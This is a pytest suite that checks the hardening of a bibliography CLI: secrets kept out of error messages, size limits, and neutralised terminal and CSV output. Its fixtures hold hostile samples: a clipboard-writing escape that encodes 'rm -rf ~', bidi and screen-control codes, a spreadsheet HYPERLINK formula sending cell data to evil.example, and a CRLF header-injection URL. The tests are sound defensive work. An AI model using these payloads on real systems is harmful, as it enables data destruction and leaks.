"""Trust, second pass (issue 18): the defects a red-team review found, each kept as a test."""
from __future__ import annotations

import json
import threading

import pytest
from remote_server import (
    BAD_CREDENTIALS,
    PASSWORD,
    URLS_WITH_CREDENTIALS,
    Endless,
    Stub,
    echoes_password,
    no_credentials,  # noqa: F401  (autouse: a clean environment)
)

from kg.core.errors import InputError
from kg.share import remote


def _select(url, text="ASK {}", **kw):
    from kg.read.query import select

    return select(remote.RemoteStore(url, **kw), text)


# --------------------------------------------------------------------------- 1. credentials

@pytest.mark.parametrize("url", URLS_WITH_CREDENTIALS)
def test_url_with_credentials_never_echoed(url):
    """The shared table (tests/remote_server.py; the CLI runs it in tests/cli/test_cli_remote.py)."""
    with pytest.raises(InputError) as e:
        remote.query_url(url)
    msg = str(e.value)
    assert not echoes_password(msg)
    assert "usable" in msg or "KG_ENDPOINT_USER" in msg
    if url == URLS_WITH_CREDENTIALS[0].values[0]:  # a usable URL: says where they go instead
        assert "remove them and set KG_ENDPOINT_USER and KG_ENDPOINT_PASSWORD" in msg


def test_redirect_location_with_credentials_not_echoed():
    with Stub(302, "text/plain", b"") as stub:
        stub.headers["Location"] = f"http://bob:{PASSWORD}@127.0.0.1:9/elsewhere"
        with pytest.raises(remote.RemoteError) as e:
            _select(stub.url + "/query")
    assert PASSWORD not in str(e.value) and "127.0.0.1:9/elsewhere" in str(e.value)


@pytest.mark.parametrize("env, said", BAD_CREDENTIALS)
def test_credentials_with_control_characters_are_a_clear_error(monkeypatch, env, said):
    """The shared table (tests/remote_server.py; the CLI runs it in tests/cli/test_cli_remote.py)."""
    for k, v in env.items():
        monkeypatch.setenv(k, v)
    with Stub(200, remote.JSON_RESULTS, b'{"head":{},"boolean":true}') as stub:
        with pytest.raises(remote.RemoteError) as e:
            _select(stub.url + "/query")
        assert stub.seen == []  # refused before any traffic
    assert str(e.value).startswith(said) and not echoes_password(str(e.value))
    assert "tok" not in str(e.value)


@pytest.mark.parametrize("pw", ["o", "e", "a", "1", "ab"])
def test_short_password_neither_mangles_nor_reveals(monkeypatch, pw):
    monkeypatch.setenv(remote.ENV_USER, "bob")
    monkeypatch.setenv(remote.ENV_PASSWORD, pw)
    echo = f"no, access denied: password was {pw} for the account".encode()
    with Stub(403, "text/plain", echo) as stub:
        with pytest.raises(remote.RemoteError) as e:
            _select(stub.url + "/query")
    msg = str(e.value)
    assert "***" not in msg  # our own words and the URL are left alone
    assert "(HTTP 403)" in msg and stub.url.split("//")[1] in msg
    assert "password was" not in msg  # the server's text held the password: withheld whole
    with pytest.raises(remote.RemoteError) as e:  # nothing of the server's: shown as is
        _select("http://localhost:9/query")
    assert "cannot connect to localhost:9: connection refused" in str(e.value)


def test_long_password_echoed_by_server_is_starred(monkeypatch):
    monkeypatch.setenv(remote.ENV_USER, "bob")
    monkeypatch.setenv(remote.ENV_PASSWORD, PASSWORD)
    with Stub(403, "text/plain", f"denied: {PASSWORD}".encode()) as stub:
        with pytest.raises(remote.RemoteError) as e:
            _select(stub.url + "/query")
    assert PASSWORD not in str(e.value) and "denied: ***" in str(e.value)


# --------------------------------------------------------------------------- 2. answers

@pytest.mark.parametrize("ctype", [
    "application/sparql-results+json; charset=utf-8",
    "Application/SPARQL-Results+JSON",
    'application/sparql-results+json;charset="UTF-8"',
])
def test_results_content_type_parameters_and_case(ctype):
    with Stub(200, ctype, b'{"head":{},"boolean":true}') as stub:
        assert _select(stub.url + "/query").boolean is True
    with Stub(200, ctype, b'{"head": {"vars": ["x"]}, "results": {"bindi') as stub:
        with pytest.raises(remote.RemoteError) as e:
            _select(stub.url + "/query", "SELECT ?x WHERE { ?x ?p ?o }")
    msg = str(e.value)
    assert "did not answer with" not in msg  # it did: the answer is broken
    assert "application/sparql-results+json answer is not valid JSON" in msg


def test_results_charset_is_honoured():
    body = '{"head": {"vars": ["x"]}, "results": {"bindings": [{"x": {"type": "literal", ' \
           '"value": "café"}}]}}'.encode("latin-1")
    r = remote.parse_results(body, f"{remote.JSON_RESULTS}; charset=ISO-8859-1")
    assert r.rows[0]["x"].value == "café"


def test_oversized_answer_is_capped_by_the_environment(monkeypatch):
    monkeypatch.setenv(remote.ENV_MAX_BYTES, "1M")
    with Endless(None) as srv:
        with pytest.raises(remote.RemoteError) as e:
            _select(srv.url, "SELECT ?x WHERE { ?x ?p ?o }")
    msg = str(e.value)
    assert "larger than the limit of 1 MiB" in msg and remote.ENV_MAX_BYTES in msg
    assert srv.sent[0] < 32 << 20  # the client stopped reading long before the end


def test_announced_oversized_answer_refused_before_reading():
    with Endless(4 << 30, cap=0) as srv:
        with pytest.raises(remote.RemoteError, match=r"larger than the limit of 64 KiB "
                                                     r"\(it announces 4 GiB\)"):
            _select(srv.url, "SELECT ?x WHERE { ?x ?p ?o }", max_bytes=64 << 10)


def test_answer_under_the_limit_is_read():
    body = json.dumps({"head": {"vars": ["x"]}, "results": {"bindings": [
        {"x": {"type": "literal", "value": "v" * 5000}}]}}).encode()
    with Stub(200, remote.JSON_RESULTS, body) as stub:
        assert _select(stub.url + "/query", "SELECT ?x WHERE {}",
                       max_bytes=len(body)).rows[0]["x"].value == "v" * 5000
        with pytest.raises(remote.RemoteError, match="larger than the limit"):
            _select(stub.url + "/query", "SELECT ?x WHERE {}", max_bytes=len(body) - 1)


@pytest.mark.parametrize("raw", ["lots", "-1", "0", "1T"])
def test_bad_answer_limit_setting(monkeypatch, raw):
    monkeypatch.setenv(remote.ENV_MAX_BYTES, raw)
    with pytest.raises(InputError, match=remote.ENV_MAX_BYTES):
        _select("http://127.0.0.1:9/query")


# --------------------------------------------------------------------------- 4. LaTeX

def _best_of(f, arg, runs=3):
    import time

    best = float("inf")
    for _ in range(runs):
        t = time.perf_counter()
        f(arg)
        best = min(best, time.perf_counter() - t)
    return best


@pytest.mark.parametrize("macro", ["enquote", "mkbibquote", "emph", "mkfrenchquote"])
def test_deep_nesting_decodes_in_linear_time(macro):
    from kg.core.latex import decode

    n = 5000
    nested = f"\\{macro}{{" * n + "x" + "}" * n
    flat = f"\\{macro}{{x}}" * n  # the same size, no nesting
    assert len(nested) <= len(flat) <= len(nested) * 1.2
    opening, closing = {"enquote": ("“", "”"), "mkbibquote": ("“", "”"),
                        "mkfrenchquote": ("« ", " »"), "emph": ("", "")}[macro]
    assert decode(nested) == opening * n + "x" + closing * n
    assert decode(flat) == (opening + "x" + closing) * n
    t_nested, t_flat = _best_of(decode, nested), _best_of(decode, flat)
    assert t_nested < 10 * t_flat + 0.05, (t_nested, t_flat)


@pytest.mark.parametrize("latex, expected", [
    (r"\enquote{a \enquote{b} c}", "“a “b” c”"),
    (r"\enquote{a}\enquote{b}", "“a”“b”"),
    (r"\enquote{\{a\}} \enquote{b}", "“{a}” “b”"),
    (r"\\\enquote{a}", "\n“a”"),
    (r"{x} \mkbibquote{\emph{a {b}}} }", "x “a b” "),
    (r"\enquote{never closed", "“never closed”"),  # the last letter was lost
    (r"\enquote{a \enquote{b}", "“a “b””"),
])
def test_quote_macros_nested_and_unclosed(latex, expected):
    from kg.core.latex import decode

    assert decode(latex) == expected


# --------------------------------------------------------------------------- 3. terminal, CSV

OSC52 = "\x1b]52;c;cm0gLXJmIH4=\x07"  # writes the clipboard
CSI = "\x1b[2J\x1b[31m"  # clears the screen, red
C1 = "\x9b31m\x9d0;title\x9c"  # the same with 8-bit controls
BIDI = "\u202etxt.exe\u202c \u2066x\u2069"
ORDINARY = "Ça Déjà 東京 👩‍💻 e\u0301 ❤️"
HOSTILE_BIB = f"""@book{{esc1,
  author     = {{Mallory, Eve}},
  title      = {{Le titre {OSC52}{CSI} {C1} {BIDI} {ORDINARY}}},
  date       = {{1999}},
  publisher  = {{=HYPERLINK("https://evil.example/?x="&A1,"clic")}},
  location   = {{@SUM(1+1)}},
  keywords   = {{surveillance}},
  annotation = {{Annotation {CSI}surveillance piégée {OSC52}}},
  langid     = {{french}},
}}

@book{{plain1,
  author     = {{-Dash, Ann}},
  title      = {{+33 1 23 45 67 89}},
  date       = {{-0384}},
  keywords   = {{surveillance}},
}}
"""
RAW = ("\x1b", "\x07", "\x9b", "\x9d", "\x9c", "\u202e", "\u202c", "\u2066", "\u2069")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, ontology_path):
    from click.testing import CliRunner

    from kg.cli import main

    base = tmp_path_factory.mktemp("escapes")
    bib = base / "esc.bib"
    bib.write_text(HOSTILE_BIB, encoding="utf-8")
    opts = ["--bib", str(bib), "--ontology", str(ontology_path), "--out", str(base / "out")]
    r = CliRunner().invoke(main, ["build", str(bib), "--ontology", str(ontology_path), "--out",
                                  str(base / "out"), "-q"])
    assert r.exit_code == 0, r.output

    def run(*args):
        r = CliRunner().invoke(main, [*args, *opts])
        assert r.exit_code == 0 and r.exception is None, (r.output, r.exception)
        return r.output

    run.opts = opts
    return run


@pytest.mark.parametrize("args", [
    ["work", "esc1"], ["work", "esc1", "--format", "markdown"], ["theme", "surveillance"],
    ["theme", "surveillance", "--format", "markdown"], ["search", "surveillance"],
    ["search", "piégée"], ["query", "SELECT ?t WHERE { ?w <http://purl.org/dc/terms/title> ?t }"],
    ["export"], ["export", "--format", "text"], ["export", "--format", "markdown"],
    ["export", "--format", "ris"], ["export", "--format", "csl-json"], ["cite", "esc1"],
    ["work", "esc1", "--format", "json"], ["theme", "surveillance", "--format", "json"],
    ["query", "CONSTRUCT { ?w <http://purl.org/dc/terms/title> ?t } WHERE "
              "{ ?w <http://purl.org/dc/terms/title> ?t }"],
], ids=" ".join)
def test_no_raw_control_character_reaches_the_terminal(hostile, args):
    out = hostile(*args)
    assert not [c for c in RAW if c in out], [hex(ord(c)) for c in RAW if c in out]
    assert "esc1" in out or "Le titre" in out


def test_controls_shown_visibly_and_ordinary_text_kept(hostile):
    out = hostile("work", "esc1")
    assert "␛]52;c;cm0gLXJmIH4=␇" in out and "␛[2J␛[31m" in out
    assert "\\x9b31m" in out and "\\u202etxt.exe" in out
    assert ORDINARY in out


def test_json_keeps_the_values(hostile):
    d = json.loads(hostile("work", "esc1", "--format", "json"))
    title = d["work"]["title"]
    assert OSC52 in title and CSI in title and C1 in title and BIDI in title
    assert ORDINARY in title


def test_csv_formulas_neutralised(hostile):
    import csv
    import io

    out = hostile("work", "esc1", "--format", "csv")
    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
    assert "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"clic\")" in cells
    assert "'@SUM(1+1)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    out = hostile("work", "plain1", "--format", "csv")
    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
    assert "'+33 1 23 45 67 89" in cells and "-0384" in cells  # a number stays a number
    out = hostile("query", "SELECT ?p WHERE { ?w <http://purl.org/dc/terms/publisher> ?p }",
                  "--format", "csv")
    assert "'=HYPERLINK(" in out and '\n"=HYPERLINK' not in out


def test_csv_keeps_its_cells_for_a_file_and_shows_controls_on_a_terminal(hostile, monkeypatch):
    """CSV is data: written to a file or a pipe, a cell keeps its characters (escape sequences
    included: click strips those from piped output unless told not to); on a terminal they
    are shown as a table shows them (kg.console.answer)."""
    import csv
    import io

    from kg.console import answer

    out = hostile("work", "esc1", "--format", "csv")  # CliRunner: not a terminal
    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
    assert any(OSC52 in c and CSI in c and C1 in c and BIDI in c for c in cells), cells

    class Terminal(io.StringIO):
        def isatty(self):
            return True

    shown = {}
    for name, stream in (("terminal", Terminal()), ("pipe", io.StringIO())):
        monkeypatch.setattr("sys.stdout", stream)
        answer(out)
        shown[name] = stream.getvalue()
    assert shown["pipe"] == out
    assert not [c for c in RAW if c in shown["terminal"]]
    assert "␛]52;c;cm0gLXJmIH4=␇" in shown["terminal"] and "\\u202etxt.exe" in shown["terminal"]
    assert ORDINARY in shown["terminal"]


@pytest.mark.parametrize("cell, expected", [
    ("=1+2", "'=1+2"), ("+1+2", "'+1+2"), ("-1+2", "'-1+2"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-12", "-12"), ("+3.5", "+3.5"), ("-1e3", "-1e3"), ("a=1", "a=1"),
    ("", ""), ("Ça", "Ça"),
])
def test_csv_safe(cell, expected):
    from kg.core.output import csv_safe

    assert csv_safe(cell) == expected


@pytest.mark.parametrize("text", [ORDINARY, "plain ascii", "tab\tand\nline", "Ελληνικά ﷺ",
                                  "👨‍👩‍👧 🏳️‍🌈 ‍", "עברית \u200f العربية"])
def test_visible_leaves_ordinary_text_alone(text):
    from kg.core.output import visible

    assert visible(text, keep="\n\t") == text


def test_error_messages_are_terminal_safe(hostile):
    from click.testing import CliRunner

    from kg.cli import main

    r = CliRunner().invoke(main, ["work", f"nokey{CSI}\u202e", *hostile.opts])
    assert r.exit_code != 0 and "Error:" in r.output
    assert "\x1b" not in r.output and "\u202e" not in r.output


# --------------------------------------------------------------------------- 5. reading the .bib

MIXED = ("@book{m1,\n"
         "  author = {Müller, Jürgen and Ellul, Jacques},\n"
         "  title  = {Première},\n"
         "}\n"
         "@book{m2,\n"
         "  author = {Müller, Jürgen},\n"
         "  title  = {Deuxième},\n"  # its 'è' alone is written in Latin-1
         "}\n")
MIXED_BYTES = MIXED.encode("utf-8").replace("Deuxième".encode(), b"Deuxi\xe8me")


def test_one_bad_byte_leaves_the_rest_utf8(write_bib):
    from kg.core.bib import load, read_text

    p = write_bib(MIXED_BYTES)
    text, problems = read_text(p)
    assert text == MIXED  # 'Müller' stays 'Müller' (not 'MÃ¼ller')
    assert [(x.line, x.level) for x in problems] == [(7, "warning")]
    msg = str(problems[0])
    assert msg.startswith(f"{p}:7: warning: not valid UTF-8 (byte 0xE8)")
    assert "retype" in msg and "iconv" not in msg  # converting the whole file would garble it
    bib = load(p)
    assert {e.fields["author"] for e in bib.entries} == {"{Müller, Jürgen and Ellul, Jacques}",
                                                         "{Müller, Jürgen}"}


def test_one_bad_byte_does_not_duplicate_people(write_bib, thesaurus):
    from kg.core.bib import load
    from kg.core.model import build_model

    p = write_bib(MIXED_BYTES)
    model = build_model(load(p), thesaurus)
    names = sorted(str(k) + " " + str(v) for k, v in model.persons.items())
    assert not [n for n in names if "Ã" in n], names
    assert len([n for n in names if "ller" in n]) == 1, names


def test_each_bad_line_warned_then_summed_up(write_bib):
    from kg.core.bib import MAX_ENCODING_WARNINGS, read_text

    lines = "".join(f"@misc{{k{i}, title={{Caf\xe9 {i}}}}}\n" for i in range(30))
    p = write_bib(lines.encode("latin-1"))
    text, problems = read_text(p)
    assert "Café 29" in text
    assert [x.line for x in problems] == list(range(1, MAX_ENCODING_WARNINGS + 2))
    assert "10 more lines are not valid UTF-8 (lines 21, 22" in problems[-1].message


def test_dev_zero_is_refused(tmp_path):
    import os

    from click.testing import CliRunner

    from kg.cli import main
    from kg.core.bib import read_text

    if not os.path.exists("/dev/zero"):
        pytest.skip("no /dev/zero")
    with pytest.raises(InputError, match="/dev/zero: is a character device, not a .bib file"):
        read_text("/dev/zero")
    r = CliRunner().invoke(main, ["check", "/dev/zero", "--out", str(tmp_path / "out")])
    assert r.exit_code == 2 and "character device" in r.output and r.exception is not None
    assert isinstance(r.exception, SystemExit)


def test_fifo_is_refused_without_waiting(tmp_path):
    import os

    from kg.core.bib import read_text

    if not hasattr(os, "mkfifo"):
        pytest.skip("no FIFOs here")
    fifo = tmp_path / "refs.bib"
    os.mkfifo(fifo)
    outcome = []

    def read():
        try:
            read_text(fifo)
        except InputError as e:
            outcome.append(str(e))

    t = threading.Thread(target=read, daemon=True)
    t.start()
    t.join(20)
    if t.is_alive():  # unblock the reader: open the other end
        with open(fifo, "wb"):
            pass
        t.join(5)
        pytest.fail("reading a FIFO waited for a writer")
    assert outcome and "named pipe (FIFO), not a .bib file" in outcome[0]


def test_size_limit(write_bib, monkeypatch):
    from kg.core.bib import ENV_MAX_BIB_BYTES, read_text

    p = write_bib("@misc{a, title={x}}\n" + "% padding\n" * 300)
    monkeypatch.setenv(ENV_MAX_BIB_BYTES, "1K")
    with pytest.raises(InputError, match=r"more than the 1 KiB kg reads.*KG_MAX_BIB_BYTES"):
        read_text(p)
    monkeypatch.setenv(ENV_MAX_BIB_BYTES, "1M")
    assert "padding" in read_text(p)[0]


def test_query_file_not_utf8_is_an_error(tmp_path):
    from click.testing import CliRunner

    from kg.cli import main

    q = tmp_path / "q.rq"
    q.write_bytes(b"SELECT * WHERE { ?s ?p \"caf\xe9\" }")
    r = CliRunner().invoke(main, ["query", "-f", str(q), "--out", str(tmp_path / "out")])
    assert r.exit_code == 2 and isinstance(r.exception, SystemExit), r.exception
    assert f"{q}: not UTF-8 text (byte 0xE9): save the query as UTF-8" in r.output


@pytest.mark.parametrize("head, char", [('ke"y', "'\"'"), ("a b", ""), ("k{1", "'{'"),
                                        ("k=1", "'='")])
def test_key_with_a_forbidden_character_says_so(head, char):
    from kg.core.bib import parse

    bib = parse(f"@book{{{head},\n  title = {{A}},\n}}\n\n@book{{ok, title={{B}}}}\n", "x.bib")
    assert [e.key for e in bib.entries] == ["ok"]
    (p,) = bib.problems
    assert p.line == 1 and "invalid citekey" in p.message and "unclosed brace" not in p.message
    assert char in p.message


# --------------------------------------------------------------------------- 6. messages

def _enospc(filename=None):
    import errno

    return OSError(errno.ENOSPC, "No space left on device", filename) if filename else OSError(
        errno.ENOSPC, "No space left on device")


def test_disk_full_without_a_file_name_names_the_output(hostile, tmp_path, monkeypatch):
    from click.testing import CliRunner

    from kg.cli import main

    def full(fd):
        raise _enospc()

    monkeypatch.setattr("os.fsync", full)
    dest = tmp_path / "export.bib"
    r = CliRunner().invoke(main, ["export", "--output", str(dest), *hostile.opts])
    assert r.exit_code == 2
    assert r.output == f"Error: {dest}: No space left on device\n"
    assert not list(tmp_path.glob(".*.tmp"))


def test_private_temporary_file_never_shown(hostile, tmp_path, monkeypatch):
    import tempfile

    from click.testing import CliRunner

    from kg.cli import main

    def refused(dir=None, prefix="", suffix=""):
        raise PermissionError(13, "Permission denied", f"{dir}/{prefix}k3j_9x2a{suffix}")

    monkeypatch.setattr(tempfile, "mkstemp", refused)
    dest = tmp_path / "refs.bib"
    r = CliRunner().invoke(main, ["export", "--output", str(dest), *hostile.opts])
    assert r.exit_code == 2
    assert r.output == f"Error: {dest}: Permission denied\n", r.output


def test_private_staging_folder_never_shown(tmp_path, monkeypatch):
    from click.testing import CliRunner

    import kg.api
    from kg.cli import main
    from kg.core.errors import BuildError

    out = tmp_path / "out"
    staged = f"{out}/.kg/stage-4242-a1b2c3d4/graph.ttl"
    monkeypatch.setattr(kg.api, "build", lambda *a, **k: (_ for _ in ()).throw(_enospc(staged)))
    r = CliRunner().invoke(main, ["build", "--out", str(out)])
    assert r.exit_code == 2 and r.output == f"Error: {out}: No space left on device\n", r.output

    monkeypatch.setattr(kg.api, "build", lambda *a, **k: (_ for _ in ()).throw(
        BuildError(f"cannot write {staged}: No space left on device; {out}/.graph.ttl."
                   "x1y2z3w4.tmp left")))
    r = CliRunner().invoke(main, ["build", "--out", str(out)])
    assert r.exit_code == 1 and ".kg/" not in r.output and ".tmp" not in r.output
    assert f"cannot write {out}: No space left on device; {out}/graph.ttl left" in r.output


@pytest.mark.parametrize("path, shown", [
    ("out/.kg/stage-123-abc_9/graph.ttl", "out"), ("/a/b/out/.kg/stage-123-abcd", "/a/b/out"),
    ("out/.kg/gen-abc_9/graph.ttl", "out/graph.ttl"), ("/a/out/.kg/gen-x1/manifest.json",
                                                          "/a/out/manifest.json"),
    ("dir/.x.bib.ab12cd_9.tmp", "dir/x.bib"), (".refs.bib.abcdefgh.tmp", "refs.bib"),
    ("/tmp/normal.tmp", "/tmp/normal.tmp"), ("out/graph.ttl", "out/graph.ttl"),
])
def test_public_path(path, shown):
    from kg.builder.store import public_path

    assert public_path(path) == shown


@pytest.mark.parametrize("fmt", ["graphml", "gexf", "json"])
def test_export_graph_on_stdout_is_terminal_safe(hostile, fmt):
    out = hostile("export-graph", "--format", fmt, "--no-measures")
    assert not [c for c in RAW if c in out], [hex(ord(c)) for c in RAW if c in out]


@pytest.mark.parametrize("url", ["http://127.0.0.1:7878/query\r\nX-Evil: 1",
                                 "http://127.0.0.1:7878/qu ery", "http://127.0.0.1:7878/\x1b[2J"])
def test_url_with_control_characters_refused(url):
    with pytest.raises(InputError, match="spaces or control characters"):
        remote.query_url(url)
